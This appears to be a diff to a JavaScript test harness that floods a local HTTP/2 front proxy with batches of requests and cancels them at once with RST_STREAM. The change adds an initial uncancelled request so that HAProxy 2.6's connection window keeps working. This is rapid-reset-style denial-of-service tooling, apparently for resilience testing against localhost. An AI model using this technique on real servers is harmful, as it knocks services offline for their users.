@@ -7,6 +7,7 @@ import { kLargePath } from './victims.mjs'
 const kBatch = 20
 const kLargestStream = 400 // then a new connection to the proxy, which may lead to another one behind it
 const kInFlightMs = 12 // so that requests have reached the program when they are cancelled
+const kFirstReadMs = 100
 const kHeldMs = 1_500
 
 /** Resolves at the event or at the end of the socket. */
@@ -30,10 +31,17 @@ const openHttp1 = (target) => openTls({ ...target, protocol: 'http/1.1' })
 const get = (front, path, more = []) => [[':method', 'GET'], [':scheme', 'https'], [':path', path], [':authority', `127.0.0.1:${front}`], ...more]
 const head = (front, line, ...fields) => `${line} HTTP/1.1\r\nHost: 127.0.0.1:${front}\r\n${fields.map((field) => `${field}\r\n`).join('')}\r\n`
 
-/** RST_STREAM for requests that are being answered. */
+/**
+ * RST_STREAM for requests that are being answered. A small document is read first: HAProxy 2.6 opens its connection window (64 KiB)
+ * wide with the first bytes of a request that is not cancelled, and never gives back what arrives for cancelled ones. A connection on which nothing
+ * but cancelled requests came would stand still for its next client, whatever the program behind it does.
+ */
 async function cancelStreams(target, work) {
   const socket = await openHttp2(target)
-  for (let stream = 1; work.isOn && !socket.destroyed && stream < kLargestStream;) {
+  const whole = next(socket, 'data')
+  socket.write(headers(1, get(target.front, '/llms.txt')))
+  await Promise.all([whole, pause(kFirstReadMs)])
+  for (let stream = 3; work.isOn && !socket.destroyed && stream < kLargestStream;) {
     const ids = Array.from({ length: kBatch }, () => { stream += 2; return stream - 2 })
     socket.write(join(ids.map((id) => headers(id, get(target.front, kLargePath)))))
     await pause(kInFlightMs)
